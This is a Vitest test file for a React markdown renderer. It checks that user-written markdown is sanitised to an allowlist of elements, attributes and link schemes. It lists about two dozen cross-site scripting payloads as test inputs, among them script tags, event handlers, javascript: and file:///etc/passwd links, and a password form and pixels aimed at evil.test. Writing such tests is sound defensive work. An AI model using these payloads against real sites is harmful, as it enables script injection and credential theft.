import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";

import { MarkdownBody } from "./markdown-body.tsx";

const rendered = (text: string) => renderToStaticMarkup(<MarkdownBody text={text} />);

/** The elements and attributes that a text may become; everything else is a way in. */
const ELEMENTS =
  /^(div|p|a|strong|em|del|code|pre|blockquote|ul|ol|li|h4|h5|h6|hr|br|table|thead|tbody|tr|th|td|section|input|sup|h2)$/;
const ATTRIBUTES =
  /^(class|href|rel|target|tabindex|aria-label|aria-describedby|type|disabled|checked|id|align|style|dir|data-footnote(s|-ref|-backref))$/i;

const TAG = /<\/?([a-z][\w-]*)((?:\s+[\w:-]+="[^"]*")*)\s*\/?>/gi;

/** The names of all elements and attributes in that HTML, which has no other `<` than theirs. */
function partsOf(html: string) {
  expect(html.replace(TAG, "")).not.toContain("<");
  const tags = [...html.matchAll(TAG)];
  return {
    elements: tags.map(([, name = ""]) => name.toLowerCase()),
    attributes: tags.flatMap(([, , given = ""]) =>
      [...given.matchAll(/([\w:-]+)="[^"]*"/g)].map(([, n]) => n),
    ),
    links: [...html.matchAll(/href="([^"]*)"/g)].map(([, href = ""]) => href),
  };
}

const attacks: [name: string, text: string][] = [
  ["a script", "<script>alert(1)</script>"],
  ["a script in a line", "Before <script src=//evil.test/x.js></script> after"],
  ["a handler", `<img src=x onerror="alert(1)">`],
  ["a frame", `<iframe src="https://evil.test"></iframe>`],
  ["a drawing with a script", `<svg><script>alert(1)</script></svg>`],
  ["a drawing with a handler", `<svg/onload=alert(1)>`],
  ["a form", `<form action="https://evil.test"><input name=password><button>Go</button></form>`],
  ["a style", "<style>*{background:url(https://evil.test)}</style>"],
  ["a base address", `<base href="https://evil.test">`],
  ["a redirect", `<meta http-equiv=refresh content="0;url=https://evil.test">`],
  ["a link to a script", "[click](javascript:alert(1))"],
  ["a link to a script in capitals", "[click](JaVaScRiPt:alert(1))"],
  ["a link to a script with a tab in it", "[click](java&#9;script:alert(1))"],
  ["a link to a script behind a blank", "[click](<  javascript:alert(1)>)"],
  ["a reference to a script", "[click][x]\n\n[x]: javascript:alert(1)"],
  ["a script in angle brackets", "<javascript:alert(1)>"],
  ["a link to a document of its own", "[click](data:text/html;base64,PHNjcmlwdD4=)"],
  ["a link to VBScript", "[click](vbscript:msgbox(1))"],
  ["a link to a file", "[click](file:///etc/passwd)"],
  ["an image", "![](https://evil.test/pixel.png)"],
  ["an image by reference", "![seen][x]\n\n[x]: https://evil.test/pixel.png"],
  ["an image from a script", "![x](javascript:alert(1))"],
  ["an attribute in a title", `[click](https://example.test "x\\" onmouseover=\\"alert(1)")`],
  ["HTML in a table", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"],
  ["HTML in a fence's name", '```"><script>alert(1)</script>\ncode\n```'],
  ["HTML in a footnote", "x[^1]\n\n[^1]: <script>alert(1)</script>"],
];

describe("Markdown that somebody wrote", () => {
  it.each(attacks)("does nothing but stand there: %s", (_name, text) => {
    const { elements, attributes, links } = partsOf(rendered(text));
    expect(elements.filter((name) => !ELEMENTS.test(name))).toEqual([]);
    expect(attributes.filter((name) => name !== undefined && !ATTRIBUTES.test(name))).toEqual([]);
    expect(links.filter((href) => /^\s*(javascript|data|vbscript|file):/i.test(href))).toEqual([]);
  });

  it("shows an image as a link, so that nothing is fetched before somebody asks for it", () => {
    const html = rendered("![The graph](https://graphs.example.test/1.png)");
    expect(html).toContain(`href="https://graphs.example.test/1.png"`);
    expect(html).toContain(">The graph</a>");
    expect(html).not.toMatch(/<img|\bsrc=/);
  });

  it("opens links without telling where they were clicked, and gives the page no hold on this one", () => {
    expect(rendered("[runbook](https://example.test/runbook)")).toMatch(
      /<a href="https:\/\/example\.test\/runbook" rel="noopener noreferrer nofollow" target="_blank"/,
    );
  });

  it("becomes the tables, lists and code that it is for", () => {
    const html = rendered("| a |\n|---|\n| b |\n\n- [x] done\n\n`<b>`");
    expect(html).toContain("<td>b</td>");
    expect(html).toContain("<code>&lt;b&gt;</code>");
    expect(html).toContain(`type="checkbox"`);
  });

  it("puts its headings under the page's, and leaves no level out", () => {
    const levels = (form: "below-entry" | "below-section") =>
      [
        ...renderToStaticMarkup(
          <MarkdownBody form={form} text={"### a\n\n##### b\n\n## c\n\n### d"} />,
        ).matchAll(/<h(\d)>/g),
      ].map(([, level]) => level);
    expect(levels("below-section")).toEqual(["3", "4", "3", "4"]);
    expect(levels("below-entry")).toEqual(["4", "5", "4", "5"]);
  });

  it("keeps a line a line, and puts no link into a link", () => {
    const text = "# Fix `a` in [b](https://example.test)";
    const inLine = renderToStaticMarkup(<MarkdownBody form="in-line" text={text} />);
    expect(inLine).toMatch(/^<span class="[^"]*">Fix <code>a<\/code> in <a .*>b<\/a><\/span>$/);
    expect(renderToStaticMarkup(<MarkdownBody form="in-link" text={text} />)).not.toContain("<a ");
  });
});
